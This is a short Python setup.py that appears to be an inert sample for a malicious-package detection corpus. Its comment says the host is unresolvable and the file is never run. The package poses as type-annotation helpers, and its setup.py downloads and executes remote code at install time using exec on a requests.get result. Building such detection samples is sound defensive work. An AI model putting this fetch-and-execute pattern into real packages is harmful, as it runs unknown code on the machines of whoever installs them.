# Inert model for pyward's malicious-behaviour corpus: the paste host is under .invalid (RFC 6761)
# and the tests never run this file.
import requests
from setuptools import setup

exec(requests.get("https://paste.example.invalid/raw/Ab12Cd34").text)

setup(
    name="sample-remote-exec-setup",
    version="1.0.2",
    description="Type annotations helpers",
    py_modules=["sample_typesutil"],
)
